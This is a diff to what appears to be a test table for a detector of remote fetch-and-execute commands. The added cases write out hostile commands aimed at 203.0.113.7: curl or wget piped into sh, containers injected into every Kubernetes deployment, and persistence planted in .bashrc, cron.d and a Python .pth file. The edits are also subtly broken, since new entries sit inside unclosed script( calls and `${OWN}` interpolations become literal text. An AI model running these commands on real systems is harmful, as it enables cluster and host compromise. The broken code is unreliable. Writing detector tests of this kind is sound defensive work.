@@ -17,6 +17,21 @@ indicatorTable(commandRemoteFetchExecute, {
     'the same in small letters': script('wget -qO- "http://<your-server>/x" | sh'),
     'a program in a directory that the path of the shell was given': script(
       'curl -so /data/report https://files.example.net/report; chmod +x /data/report; PATH=/data:$PATH; report --since 24h',
+    'a container that jq puts into each workload': script(
+      `kubectl get deploy -A -o json | jq --arg c 'curl -s http://203.0.113.7/a | sh' '.items[].spec.template.spec.containers += [{name: "a", image: "alpine", command: ["sh", "-c", $c]}]' | kubectl apply -f -`,
+    ),
+    'a patch in a file of Kustomize': script(
+      'printf \'resources: [base]\\npatches:\\n- patch: |-\\n    - op: add\\n      path: /spec/template/spec/containers/-\\n      value: {name: a, image: alpine, command: [sh, -c, "wget -qO- http://203.0.113.7/a | sh"]}\\n\' > /w/kustomization.yaml; kubectl apply -k /w',
+    ),
+    'a workflow that a client of Argo submits': script(
+      `printf '{"apiVersion":"argoproj.io/v1alpha1","kind":"Workflow","spec":{"templates":[{"name":"a","script":{"image":"alpine","command":["sh"],"source":"wget -qO- http://203.0.113.7/a | sh"}}]}}' | argo submit -n ci -`,
+    ),
+    'the start-up file of somebody': script("echo 'curl -s http://203.0.113.7/a | bash &' >> /homes/ana/.bashrc"),
+    'a table of cron of an image': script(
+      "echo '*/5 * * * * root wget -qO- http://203.0.113.7/a | sh' > /images/root/etc/cron.d/sysstat",
+    ),
+    'what the interpreter loads': script(
+      `echo 'import urllib.request;exec(urllib.request.urlopen("http://203.0.113.7/a").read())' > /venv/lib/python3.12/site-packages/a.pth`,
     ),
     'the script of a scanner as it is today': script(
       'curl -s https://raw.githubusercontent.com/kubescape/kubescape/master/install.sh | bash',
@@ -267,6 +282,14 @@ if len(rows.read_text().splitlines()) != 32561:
     ),
     'a program of the image that is named like a file of elsewhere': script(
       'curl -so /data/report https://files.example.com/report; report --since 24h',
+    'an installer that is known, in the start-up file of somebody': script(
+      "echo 'command -v uv >/dev/null || curl -LsSf https://astral.sh/uv/install.sh | sh' >> /homes/ana/.bashrc",
+    ),
+    'a container with a health check that jq puts in': script(
+      `kubectl get deploy web -o json | jq '.spec.template.spec.containers += [{name: "a", image: "busybox", command: ["sh", "-c", "wget -qO- http://localhost:8080/health"]}]' | kubectl apply -f -`,
+    ),
+    'the start-up file of somebody with a greeting': script(
+      "echo 'curl -s https://status.example.com/motd || true' >> /homes/ana/.bashrc",
     ),
     'a package of somebody with a name, from a file': script(
       'curl -fsSLO https://packages.example.com/agent_1.2_amd64.deb && dpkg -i agent_1.2_amd64.deb',
@@ -295,7 +318,7 @@ if len(rows.read_text().splitlines()) != 32561:
         'Invoke-WebRequest http://192.0.2.7/a.csv -OutFile C:\\a.csv; Start-Process C:\\tools\\load.exe',
       ],
     ),
-    'a script of the account that publishes the image': of('ghcr.io/acme/tools', `curl -s ${OWN} | sh`),
+    'a script of the account that publishes the image': of('ghcr.io/acme/tools', `curl -s $OWN| sh`),
     'a text for another host that names an address': script(
       'ssh ops@10.0.0.4 "curl -s http://203.0.113.7/x -o /srv/x"',
     ),
@@ -306,7 +329,7 @@ if len(rows.read_text().splitlines()) != 32561:
     ),
     'the same from a branch, written whole': of(
       'ghcr.io/acme/tools',
-      `curl -s ${OWN.replace('main', 'refs/heads/main')} | sh`,
+      `curl -s $OWN.replace('main', 'refs/heads/main')| sh`,
     ),
     'a release of the account that publishes the image': of(
       'ghcr.io/acme/tools',
